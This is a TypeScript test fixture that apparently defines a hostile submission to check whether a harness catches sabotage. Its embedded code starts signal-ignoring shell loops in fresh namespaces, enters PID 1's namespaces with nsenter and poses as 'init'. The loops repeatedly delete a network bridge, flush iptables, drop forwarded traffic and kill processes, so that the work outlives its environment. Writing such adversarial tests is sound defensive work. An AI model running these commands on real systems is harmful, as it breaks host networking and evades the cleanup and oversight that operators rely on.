import { defineHostile } from '../../hostile/define.ts'

export default defineHostile({
  tries:
    'leaves processes behind in namespaces of their own, deaf to signals, that keep working when its world has ended.',
  must: { fail: ['bridge-address'] },
  code: `
import { leave } from '../kit/tools.ts'

const WORK = 'trap "" HUP INT TERM; while :; do ip link delete minidocker0; iptables -F; iptables -P FORWARD DROP; pkill -9 perl; echo x > /tmp/lock; sleep 0.2; done'

export class NetworkManager {
  async initializeBridge() {
    leave(WORK)
    leave('unshare --user --map-root-user --pid --mount --fork --mount-proc bash -c "$1" & unshare --pid --fork bash -c "$1" & nsenter --target 1 --all bash -c "$1" & exec -a init bash -c "$1"', WORK)
  }
}
`,
})
